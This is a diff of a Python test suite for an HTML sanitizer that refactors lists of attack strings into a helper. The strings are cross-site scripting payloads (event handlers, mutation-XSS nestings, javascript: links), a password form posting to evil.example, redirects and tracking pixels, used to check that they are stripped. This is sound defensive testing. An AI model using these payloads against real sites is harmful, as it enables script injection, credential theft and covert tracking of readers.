@@ -22,15 +22,15 @@ def names(text: str) -> frozenset[str]:
     return frozenset(text.split())
 
 
-TAGS = names(
-    "a abbr acronym address article aside b bdi bdo big blockquote br caption center cite code col colgroup dd del"
-    " details dfn div dl dt em figcaption figure footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li main mark nav ol p"
-    " pre q rp rt ruby s samp section small strike strong sub summary sup table tbody td tfoot th thead time tr tt u ul"
-    " var wbr"
-)
-ATTRIBUTES = names(
-    "href rel src alt title width height dir lang start reversed type value colspan rowspan scope datetime span"
-)
+TAGS = names("""
+    a abbr acronym address article aside b bdi bdo big blockquote br caption center cite code col colgroup dd
+    del details dfn div dl dt em figcaption figure footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li main mark
+    nav ol p pre q rp rt ruby s samp section small strike strong sub summary sup table tbody td tfoot th thead
+    time tr tt u ul var wbr
+""")
+ATTRIBUTES = names("""
+    href rel src alt title width height dir lang start reversed type value colspan rowspan scope datetime span
+""")
 # What pages put in the place of a picture that the reader has not asked for.
 WITHHELD = re.compile(r'<span class="withheld" title="[a-z0-9.:-]*">([^<>]*)</span>')
 SCHEMES = ("http://", "https://", "mailto:", "magnet:", "ftp://", "gemini://", "tel:", "xmpp:", "irc:", "ircs:")
@@ -108,6 +108,10 @@ def shown_cleanly(target: Target, world: Web, name: str, *attacks: str) -> list[
     return stored
 
 
+def lines(text: str) -> list[str]:
+    return [line.strip() for line in text.strip().splitlines()]
+
+
 def test_scripts_in_links_are_removed_however_they_are_spelled(target: Target, world: Web) -> None:  # H55
     schemes = (
         "javascript:alert(1)",
@@ -126,82 +130,72 @@ def test_scripts_in_links_are_removed_however_they_are_spelled(target: Target, w
 
 
 def test_handlers_and_scripts_are_removed(target: Target, world: Web) -> None:  # H56
-    attacks = (
-        "<script>window.taken=1</script>",
-        "<scr<script>ipt>window.taken=1</scr</script>ipt>",
-        '<img src=x onerror="window.taken=1">',
-        "<b onmouseover=window.taken=1 onclick='window.taken=1'>b</b>",
-        "<details open ontoggle=window.taken=1><summary>s</summary></details>",
-        "<body onload=window.taken=1>",
-        "<a href='https://a.example/' autofocus onfocus=window.taken=1>a</a>",
-        "<img/src='x'/onerror=window.taken=1>",
-    )
+    attacks = lines("""
+        <script>window.taken=1</script>
+        <scr<script>ipt>window.taken=1</scr</script>ipt>
+        <img src=x onerror="window.taken=1">
+        <b onmouseover=window.taken=1 onclick='window.taken=1'>b</b>
+        <details open ontoggle=window.taken=1><summary>s</summary></details>
+        <body onload=window.taken=1>
+        <a href='https://a.example/' autofocus onfocus=window.taken=1>a</a>
+        <img/src='x'/onerror=window.taken=1>
+    """)
     for content in shown_cleanly(target, world, "handlers", *attacks):
         assert "<script" not in content
 
 
 def test_markup_that_changes_its_meaning_when_it_is_read_again_is_removed(target: Target, world: Web) -> None:  # H56
-    shown_cleanly(
-        target,
-        world,
-        "mutations",
-        "<svg><style><img src=x onerror=alert(1)></style></svg>",
-        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'></math>",
-        "<svg><p><style><g title='</style><img src=x onerror=alert(1)>'></svg>",
-        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
-        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></form>",
-        "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
-        "<xmp><p title='</xmp><svg/onload=alert(1)>'></xmp>",
-        "<template><script>alert(1)</script></template>",
-        "<!--><img src=x onerror=alert(1)>-->",
-        "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
-    )
+    attacks = lines("""
+        <svg><style><img src=x onerror=alert(1)></style></svg>
+        <math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'></math>
+        <svg><p><style><g title='</style><img src=x onerror=alert(1)>'></svg>
+        <noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>
+        <form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></form>
+        <textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>
+        <xmp><p title='</xmp><svg/onload=alert(1)>'></xmp>
+        <template><script>alert(1)</script></template>
+        <!--><img src=x onerror=alert(1)>-->
+        <svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>
+    """)
+    shown_cleanly(target, world, "mutations", *attacks)
 
 
 def test_frames_forms_and_instructions_to_the_page_are_removed(target: Target, world: Web) -> None:  # H57
-    contents = shown_cleanly(
-        target,
-        world,
-        "frames",
-        "<iframe srcdoc='<script>alert(1)</script>'></iframe><iframe src='https://evil.example/'></iframe>",
-        "<form action='https://evil.example/'><input type=password name=p><button>Sign in</button></form>",
-        "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example/'>",
-        "<link rel=stylesheet href='https://evil.example/x.css'><object data=x></object><embed src=x>",
-        "<frameset><frame src='https://evil.example/'></frameset><applet code=x></applet><portal src=x></portal>",
-        "<video src='https://evil.example/v' autoplay><track src=x></video><dialog open>Sign in here</dialog>",
-    )
-    for content in contents:
+    attacks = lines("""
+        <iframe srcdoc='<script>alert(1)</script>'></iframe><iframe src='https://evil.example/'></iframe>
+        <form action='https://evil.example/'><input type=password name=p><button>Sign in</button></form>
+        <base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example/'>
+        <link rel=stylesheet href='https://evil.example/x.css'><object data=x></object><embed src=x>
+        <frameset><frame src='https://evil.example/'></frameset><applet code=x></applet><portal src=x></portal>
+        <video src='https://evil.example/v' autoplay><track src=x></video><dialog open>Sign in here</dialog>
+    """)
+    for content in shown_cleanly(target, world, "frames", *attacks):
         assert "evil.example" not in content
 
 
 def test_style_cannot_cover_the_page_or_call_home(target: Target, world: Web) -> None:  # H58
-    contents = shown_cleanly(
-        target,
-        world,
-        "style",
-        "<style>body{background:url(https://evil.example/)}@import 'https://evil.example/'</style>",
-        "<div style='position:fixed;inset:0;z-index:9999;background:url(https://evil.example/)'>cover</div>",
-        "<p class='bar' id='main'>ours?</p><table background='https://evil.example/'><td bgcolor=red>x</td></table>",
-        "<font color=red face='x' size=7>x</font><center style='width:expression(alert(1))'>x</center>",
-    )
-    for content in contents:
+    attacks = lines("""
+        <style>body{background:url(https://evil.example/)}@import 'https://evil.example/'</style>
+        <div style='position:fixed;inset:0;z-index:9999;background:url(https://evil.example/)'>cover</div>
+        <p class='bar' id='main'>ours?</p><table background='https://evil.example/'><td bgcolor=red>x</td></table>
+        <font color=red face='x' size=7>x</font><center style='width:expression(alert(1))'>x</center>
+    """)
+    for content in shown_cleanly(target, world, "style", *attacks):
         assert "evil.example" not in content
         assert "style" not in content
 
 
 def test_pictures_that_count_readers_are_removed_and_real_ones_stay(target: Target, world: Web) -> None:  # H59
-    contents = shown_cleanly(
-        target,
-        world,
-        "pictures",
-        "<img src='https://evil.example/count' width=1 height=1>",
-        "<img src='https://evil.example/count' width='0' height='0'>",
-        "<img src='https://pixel.evil.example/x.gif'>",
-        "<img srcset='https://evil.example/a 1x, javascript:alert(1) 2x' sizes=100vw>",
-        "<picture><source srcset='https://evil.example/s'><img src='https://news.example/real.png'></picture>",
-        "<img src='https://news.example/own.png' srcset='https://evil.example/b 2x' referrerpolicy=unsafe-url>",
-        "<img src='data:image/svg+xml,&lt;svg onload=alert(1)&gt;'>",
-    )
+    attacks = lines("""
+        <img src='https://evil.example/count' width=1 height=1>
+        <img src='https://evil.example/count' width='0' height='0'>
+        <img src='https://pixel.evil.example/x.gif'>
+        <img srcset='https://evil.example/a 1x, javascript:alert(1) 2x' sizes=100vw>
+        <picture><source srcset='https://evil.example/s'><img src='https://news.example/real.png'></picture>
+        <img src='https://news.example/own.png' srcset='https://evil.example/b 2x' referrerpolicy=unsafe-url>
+        <img src='data:image/svg+xml,&lt;svg onload=alert(1)&gt;'>
+    """)
+    contents = shown_cleanly(target, world, "pictures", *attacks)
     real = ["https://news.example/real.png", "https://news.example/own.png"]
     for form, content in zip(FORMS, contents, strict=True):
         assert "evil.example" not in content
@@ -274,13 +268,11 @@ def test_the_api_never_answers_with_something_a_browser_would_run(target: Target
 
 
 def test_every_way_out_of_our_pages_leaves_no_handle_behind(target: Target, world: Web, named: Source) -> None:  # H62
-    shown_cleanly(
-        target,
-        world,
-        "blank",
-        "<a href='https://a.example/' target=_blank rel=opener>a</a>",
-        "<a href='https://b.example/' ping='https://c.example/'>b</a>",
-    )
+    attacks = lines("""
+        <a href='https://a.example/' target=_blank rel=opener>a</a>
+        <a href='https://b.example/' ping='https://c.example/'>b</a>
+    """)
+    shown_cleanly(target, world, "blank", *attacks)
     [post] = target.posts(named)
     for path in ("/", f"/posts/{post['id']}", f"/posts/{post['id']}/content", "/sources", f"/sources/{named['id']}"):
         for link in LexborHTMLParser(target.page(path)).css("a[target], a[href^=http]"):
